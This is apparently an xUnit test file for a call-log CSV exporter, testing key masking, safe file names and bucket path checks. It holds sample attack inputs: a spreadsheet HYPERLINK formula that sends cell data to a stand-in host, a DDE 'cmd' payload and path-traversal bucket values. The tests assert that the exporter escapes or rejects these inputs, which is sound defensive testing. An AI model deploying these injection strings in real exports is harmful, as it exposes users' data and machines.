using CallLogs.Contracts;
using CallLogs.Testing;
using Microsoft.EntityFrameworkCore;
using static CallLogs.Export.Tests.ExportTestBed;

namespace CallLogs.Export.Tests;

/// <summary>What ends up in the files and their names: masking of every secret, formula escaping, area names, and a destination that cannot leave its bucket.</summary>
[Collection(InfrastructureCollection.Name)]
public sealed class ExportContentTests(Infrastructure infra)
{
    private static DateTimeOffset HourClosed(int hour) => Hour0.AddHours(hour + 1).AddMinutes(6);

    [Fact]
    public async Task A_masking_profile_hides_the_key_inside_request_id_and_uri_and_cells_that_would_run_as_formulas_are_escaped_unless_raw()
    {
        await using var bed = await ExportTestBed.StartAsync(infra);
        const string key = "fav6x8vp8wwcyj65m7yv3bzt";
        var masked = await bed.CreateProfileAsync(bed.Profile(mask: true, keep: 3));
        var raw = await bed.CreateProfileAsync(bed.Profile() with { EscapeCsvFormulas = false });
        var record = Record(Hour0.AddMinutes(5), key: key) with
        {
            RequestId = $"1555711003.068__{key}",
            Uri = $"/v1/forecast?api_key={key}",
            UserAgent = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            Referrer = "@SUM(1+1)*cmd|' /C calc'!A0",
            TrafficManagerErrorCode = "-",
            ConnectTime = -0.5,
        };
        await bed.IngestAsync(record);
        bed.Clock.SetUtcNow(HourClosed(0));
        await bed.RunExporterAsync();

        var names = CallRecordFields.Names.ToList();
        var maskedRow = (await bed.ObjectsAsync(masked)).Values.Single().Rows[1];
        Assert.Equal("1555711003.068__fav******************bzt", maskedRow[names.IndexOf("request_id")]);
        Assert.Equal("fav******************bzt", maskedRow[names.IndexOf("api_key")]);
        Assert.Equal("/v1/forecast?api_key=fav******************bzt", maskedRow[names.IndexOf("uri")]);
        Assert.DoesNotContain(maskedRow, v => v.Contains(key, StringComparison.Ordinal));
        Assert.Equal("'" + record.UserAgent, maskedRow[names.IndexOf("user_agent")]);
        Assert.Equal("'" + record.Referrer, maskedRow[names.IndexOf("referrer")]);
        Assert.Equal("-", maskedRow[names.IndexOf("traffic_manager_error_code")]);
        Assert.Equal("-0.5", maskedRow[names.IndexOf("connect_time")]);

        var rawRow = (await bed.ObjectsAsync(raw)).Values.Single().Rows[1];
        Assert.Equal(record.UserAgent, rawRow[names.IndexOf("user_agent")]);
        Assert.Equal(record.Referrer, rawRow[names.IndexOf("referrer")]);
        Assert.Equal(record.RequestId, rawRow[names.IndexOf("request_id")]);
    }

    [Fact]
    public async Task File_names_carry_the_areas_current_name_made_safe_and_an_older_rename_arriving_late_changes_nothing()
    {
        await using var bed = await ExportTestBed.StartAsync(infra);
        var profile = await bed.CreateProfileAsync();
        await bed.Bus.Publish(new AreaCreated { AreaId = bed.Area, Name = "Acme Météo", CreatedAt = Hour0.AddDays(-3) });
        await bed.Bus.Publish(new AreaRenamed { AreaId = bed.Area, Name = "Acme / Weather_EU", UpdatedAt = Hour0.AddDays(-1) });
        await Eventually.Until(async () => await bed.CountAsync(db => db.AreaNames.CountAsync(a => a.AreaId == bed.Area && a.Name == "Acme / Weather_EU")) == 1);
        await bed.Bus.Publish(new AreaRenamed { AreaId = bed.Area, Name = "Stale name", UpdatedAt = Hour0.AddDays(-2) });
        await bed.Bus.Publish(new AreaCreated { AreaId = bed.Area, Name = "Acme Météo", CreatedAt = Hour0.AddDays(-3) });
        await bed.IngestAsync(Record(Hour0.AddMinutes(1)));
        bed.Clock.SetUtcNow(HourClosed(0));
        await bed.RunExporterAsync();
        var first = Assert.Single((await bed.ObjectsAsync(profile)).Keys);
        Assert.Equal($"exports/{bed.Area}/{profile}/2026/11/20/07/Acme-Weather-EU_{bed.Area}_20261120T070000Z_20261120T080000Z_20261120T080600Z_{profile}.csv.gz", first);

        await bed.Bus.Publish(new AreaRenamed { AreaId = bed.Area, Name = "Zürich", UpdatedAt = Hour0.AddHours(1) });
        await Eventually.Until(async () => await bed.CountAsync(db => db.AreaNames.CountAsync(a => a.AreaId == bed.Area && a.Name == "Zürich")) == 1);
        bed.Clock.SetUtcNow(HourClosed(1));
        await bed.RunExporterAsync();
        Assert.Contains((await bed.ObjectsAsync(profile)).Keys, k => k.Contains($"/2026/11/20/08/Zurich_{bed.Area}_", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_profile_whose_bucket_setting_would_leave_its_bucket_writes_nothing_anywhere_and_shows_why_while_others_go_on()
    {
        await using var bed = await ExportTestBed.StartAsync(infra);
        var theirs = await infra.NewBucketAsync();
        // As an event from before the rules, or not from the profile service at all.
        var escaping = await bed.CreateProfileAsync(bed.Profile() with { S3Bucket = $"{bed.Bucket}/../{theirs}" });
        var sneaky = await bed.CreateProfileAsync(bed.Profile() with { S3Bucket = $"{bed.Bucket}/exports/%2e%2e/{theirs}" });
        var fine = await bed.CreateProfileAsync();
        await bed.IngestAsync(Record(Hour0.AddMinutes(1)));
        bed.Clock.SetUtcNow(HourClosed(0));
        await bed.RunExporterAsync();

        Assert.Single(await bed.ObjectsAsync(fine));
        Assert.Empty(await bed.BucketObjectsAsync(theirs));
        Assert.All(await bed.BucketObjectsAsync(bed.Bucket), o => Assert.StartsWith($"exports/{bed.Area}/{fine}/", o.Key));
        Assert.Contains("'..' segment", (await bed.StatusAsync(escaping)).LastError);
        Assert.Contains("'%'", (await bed.StatusAsync(sneaky)).LastError);

        // Once its owner fixes the setting, the hour is planned and written after all.
        var fixedProfile = bed.Profile() with { S3Bucket = $"{bed.Bucket}/exports" };
        var update = fixedProfile with { ProfileId = escaping, Version = 2 };
        await bed.ApplyAsync(new ExportProfileUpdated { Profile = update }, update);
        bed.Clock.Advance(TimeSpan.FromMinutes(1));
        await bed.RunExporterAsync();
        Assert.Single(await bed.ObjectsAsync(escaping));
        Assert.Null((await bed.StatusAsync(escaping)).LastError);
    }
}
